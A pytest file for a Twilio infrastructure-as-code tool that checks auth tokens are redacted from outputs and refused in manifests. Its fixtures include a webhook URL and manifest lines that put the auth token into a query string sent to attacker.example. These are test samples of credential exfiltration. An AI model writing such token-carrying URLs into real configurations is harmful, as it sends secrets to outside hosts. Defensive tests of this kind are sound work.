"""No credential leaves through a manifest, nor through any output.

The first line of defence refuses a manifest that reads or holds a credential
(tests/fixtures/malformed/secret-*.yaml and test_manifest.py). These tests are
the second line: a credential that reaches an output anyway (here, a live
webhook URL someone set out of band with the token in it) comes out as
[redacted] in text, JSON and Markdown plans, saved plans, exports, logs and
error messages.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

TOKEN = "tok-9Zq7-credential-in-use-0042xy"  # TWILIO_AUTH_TOKEN in the environment
LEAKY = f"https://attacker.example/c?k={TOKEN}"
MANIFEST = (
    "applications:\n  - friendly_name: ivr\n    voice_url: https://example.com/v\n"
)


@pytest.fixture
def leaky(sandbox, write, monkeypatch) -> Path:
    """A live application whose webhook carries the token, and a manifest
    that changes it (so plans show the live value as "before")."""
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", TOKEN)
    emulator = sandbox()
    emulator.insert("applications", friendly_name="ivr", voice_url=LEAKY)
    emulator.save()
    return write("twilio.yaml", MANIFEST)


@pytest.mark.parametrize("output", ["text", "json", "markdown"])
def test_plan_outputs_are_scrubbed(run, leaky, output) -> None:
    result = run("plan", str(leaky), "--output", output)
    assert result.exit_code == 0, result.output
    assert TOKEN not in result.output
    assert "https://attacker.example/c?k=[redacted]" in result.stdout
    if output == "json":
        json.loads(result.stdout)  # still a valid document


def test_a_saved_plan_is_scrubbed_and_then_refused_as_stale(
    run, leaky, tmp_path, requests
) -> None:
    out = tmp_path / "plan.json"
    planned = run("plan", str(leaky), "--out", str(out))
    assert planned.exit_code == 0
    assert "will refuse it as stale" in planned.stderr
    assert TOKEN not in out.read_text()
    assert "[redacted]" in out.read_text()
    # The scrubbed "before" no longer matches live state: never applied blind.
    applied = run("apply", str(out), "--auto-approve")
    assert applied.exit_code == 1
    assert TOKEN not in applied.output
    assert [r for r in requests() if r[0] == "POST"] == []


def test_export_files_are_scrubbed(run, leaky, tmp_path) -> None:
    out = tmp_path / "exported"
    result = run("export", "--out", str(out))
    assert result.exit_code == 0, result.output
    text = (out / "applications.yaml").read_text()
    assert TOKEN not in text and "k=[redacted]" in text


def test_logs_are_scrubbed(run, leaky, tmp_path, monkeypatch) -> None:
    # The sandbox logs its state path when it creates it: put the token there.
    monkeypatch.setenv("TWILIO_IAC_SANDBOX_STATE", str(tmp_path / TOKEN / "s.json"))
    result = run("--debug", "--log-format", "json", "plan", str(leaky))
    assert "sandbox.created" in result.stderr
    assert TOKEN not in result.output


def test_error_messages_are_scrubbed(run, leaky, sandbox) -> None:
    emulator = sandbox()
    emulator.add_fault("POST", r"/Applications/AP\w+\.json$", 400, 21999, LEAKY)
    emulator.save()
    result = run("--debug", "apply", str(leaky), "--auto-approve")
    assert result.exit_code == 1
    assert "21999" in result.stderr and "k=[redacted]" in result.stderr
    assert TOKEN not in result.output


def test_the_manifest_cannot_read_the_token(run, write, monkeypatch, requests) -> None:
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", TOKEN)
    path = write(
        "twilio.yaml",
        "applications:\n  - friendly_name: ivr\n"
        "    voice_url: https://attacker.example/c?k=${TWILIO_AUTH_TOKEN}\n",
    )
    for verb in (["plan"], ["plan", "--output", "json"], ["apply", "--auto-approve"]):
        result = run(*verb, str(path))
        assert result.exit_code == 1
        assert "twilio.yaml:3 applications[0].voice_url: ${TWILIO_AUTH_TOKEN}" in (
            result.stderr
        )
        assert TOKEN not in result.output
    assert requests() == []


@pytest.mark.parametrize("flag_first", [True, False])
def test_the_sandbox_token_is_a_credential_in_use(
    write, monkeypatch, requests, state_path, flag_first
) -> None:
    from click.testing import CliRunner

    from twilio_iac import logs
    from twilio_iac.cli import cli
    from twilio_iac.emulator import SANDBOX_AUTH_TOKEN

    monkeypatch.setattr(logs, "_SECRETS", set())  # as in a fresh process
    monkeypatch.delenv("TWILIO_AUTH_TOKEN", raising=False)
    monkeypatch.setenv("MYV", SANDBOX_AUTH_TOKEN)
    path = write(
        "twilio.yaml",
        "applications:\n  - friendly_name: ivr\n"
        "    voice_url: https://attacker.example/c?k=${MYV}\n",
    )
    args = ["--sandbox", "plan", str(path)]
    if not flag_first:
        args = ["plan", str(path), "--sandbox"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1, result.output
    assert "${MYV} holds the value of a credential in use" in result.stderr
    assert SANDBOX_AUTH_TOKEN not in result.output
    assert requests() == []
